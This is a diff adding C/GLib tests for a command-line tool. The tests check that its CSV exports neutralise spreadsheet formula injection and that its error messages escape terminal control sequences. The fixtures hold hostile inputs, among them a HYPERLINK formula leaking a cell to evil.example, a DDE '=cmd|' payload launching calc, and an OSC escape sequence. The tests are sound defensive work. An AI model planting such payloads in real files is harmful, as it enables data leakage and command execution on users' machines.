@@ -123,6 +123,159 @@ test_metrics_stdout (void)
   run_result_clear (&r);
 }
 
+/* Splits one CSV record (no embedded newlines) into its fields. */
+static GPtrArray *
+parse_csv_line (const char *line)
+{
+  GPtrArray *fields = g_ptr_array_new_with_free_func (g_free);
+  const char *p = line;
+
+  for (;;)
+    {
+      GString *f = g_string_new (NULL);
+
+      if (*p == '"')
+        {
+          for (p++; *p != '\0'; p++)
+            {
+              if (*p == '"' && p[1] == '"')
+                g_string_append_c (f, *p++);
+              else if (*p == '"')
+                {
+                  p++;
+                  break;
+                }
+              else
+                g_string_append_c (f, *p);
+            }
+        }
+      else
+        while (*p != '\0' && *p != ',')
+          g_string_append_c (f, *p++);
+      g_ptr_array_add (fields, g_string_free (f, FALSE));
+      if (*p != ',')
+        break;
+      p++;
+    }
+  return fields;
+}
+
+/* Looks up the row whose first field is @id; returns field @col. */
+static const char *
+csv_cell (GPtrArray  *rows,
+          const char *id,
+          guint       col)
+{
+  for (guint i = 0; i < rows->len; i++)
+    {
+      GPtrArray *f = g_ptr_array_index (rows, i);
+
+      if (f->len > col && strcmp (g_ptr_array_index (f, 0), id) == 0)
+        return g_ptr_array_index (f, col);
+    }
+  return NULL;
+}
+
+static GPtrArray *
+parse_csv (const char *text)
+{
+  g_auto (GStrv) lines = g_strsplit (text, "\n", -1);
+  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
+
+  for (guint i = 0; lines[i] != NULL; i++)
+    if (lines[i][0] != '\0')
+      g_ptr_array_add (rows, parse_csv_line (lines[i]));
+  return rows;
+}
+
+/* Issue 12 item 11: names and departments that a spreadsheet would run as
+ * formulas get a leading ' in every CSV; plain numbers stay numbers. */
+static void
+test_csv_injection (void)
+{
+  g_autofree char *dir = tmp_path ("injection");
+  g_autofree char *people = g_build_filename (dir, "people.csv", NULL);
+  g_autofree char *ties = g_build_filename (dir, "ties.csv", NULL);
+  g_autoptr (GPtrArray) rows = NULL;
+  RunResult r;
+
+  g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
+  g_assert_true (g_file_set_contents (people,
+      "id,name,department\n"
+      "p1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",Sales\n"
+      "p2,@SUM(1),=cmd|' /C calc'!A0\n"
+      "p3,+1+1,Sales\n"
+      "p4,-2+3,-1\n"
+      "p5,\"\tTab\",Sales\n"
+      "p6,-0.5,+3\n"
+      "p7,Anna,Sales\n", -1, NULL));
+  g_assert_true (g_file_set_contents (ties,
+      "source,target\np1,p2\np2,p3\np3,p4\np4,p5\np5,p6\np6,p7\n", -1, NULL));
+
+  r = run ("--metrics=-", dir, NULL);
+  g_assert_cmpint (r.status, ==, 0);
+  rows = parse_csv (r.out);
+  /* id,kind,name,department */
+  g_assert_cmpstr (csv_cell (rows, "p1", 2), ==,
+                   "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+  g_assert_cmpstr (csv_cell (rows, "p2", 2), ==, "'@SUM(1)");
+  g_assert_cmpstr (csv_cell (rows, "p2", 3), ==, "'=cmd|' /C calc'!A0");
+  g_assert_cmpstr (csv_cell (rows, "p3", 2), ==, "'+1+1");
+  g_assert_cmpstr (csv_cell (rows, "p4", 2), ==, "'-2+3");
+  g_assert_cmpstr (csv_cell (rows, "p4", 3), ==, "-1");
+  g_assert_cmpstr (csv_cell (rows, "p5", 2), ==, "'\tTab");
+  g_assert_cmpstr (csv_cell (rows, "p6", 2), ==, "-0.5");
+  g_assert_cmpstr (csv_cell (rows, "p6", 3), ==, "+3");
+  g_assert_cmpstr (csv_cell (rows, "p7", 2), ==, "Anna");
+  run_result_clear (&r);
+  g_clear_pointer (&rows, g_ptr_array_unref);
+
+  /* the group metrics name each department: level,group,… */
+  r = run ("--group-metrics=-", dir, NULL);
+  g_assert_cmpint (r.status, ==, 0);
+  rows = parse_csv (r.out);
+  {
+    gboolean formula = FALSE, minus_one = FALSE, plus_three = FALSE;
+
+    for (guint i = 0; i < rows->len; i++)
+      {
+        GPtrArray *f = g_ptr_array_index (rows, i);
+        const char *group = f->len > 1 ? g_ptr_array_index (f, 1) : "";
+
+        g_assert_false (group[0] == '=' || group[0] == '@');
+        formula |= strcmp (group, "'=cmd|' /C calc'!A0") == 0;
+        minus_one |= strcmp (group, "-1") == 0;
+        plus_three |= strcmp (group, "+3") == 0;
+      }
+    g_assert_true (formula);
+    g_assert_true (minus_one);
+    g_assert_true (plus_three);
+  }
+  run_result_clear (&r);
+}
+
+/* Issue 12 item 12: a message that quotes a file shows its control
+ * characters escaped, whichever parser wrote it (here the strategy's). */
+static void
+test_terminal_escapes (void)
+{
+  const char *team = g_test_get_filename (G_TEST_DIST, "cli", "data", "team", NULL);
+  g_autofree char *strategy = tmp_path ("escapes-strategy.txt");
+  g_autofree char *report = tmp_path ("escapes-fit.csv");
+  g_autofree char *strategy_arg = g_strconcat ("--strategy=", strategy, NULL);
+  g_autofree char *report_arg = g_strconcat ("--fit-report=", report, NULL);
+  RunResult r;
+
+  g_assert_true (g_file_set_contents (strategy, "[default]\nei_index = \033]0;pwned\007high\n",
+                                      -1, NULL));
+  r = run (strategy_arg, report_arg, team, NULL);
+  g_assert_cmpint (r.status, ==, 1);
+  g_assert_null (strchr (r.err, '\033'));
+  g_assert_null (strchr (r.err, '\007'));
+  g_assert_nonnull (strstr (r.err, "\\x1b]0;pwned\\x07high"));
+  run_result_clear (&r);
+}
+
 int
 main (int argc, char **argv)
 {
@@ -131,5 +284,7 @@ main (int argc, char **argv)
   g_test_add_func ("/cli/bad-input", test_bad_input);
   g_test_add_func ("/cli/export-formats", test_export_formats);
   g_test_add_func ("/cli/metrics-stdout", test_metrics_stdout);
+  g_test_add_func ("/cli/csv-injection", test_csv_injection);
+  g_test_add_func ("/cli/terminal-escapes", test_terminal_escapes);
   return g_test_run ();
 }
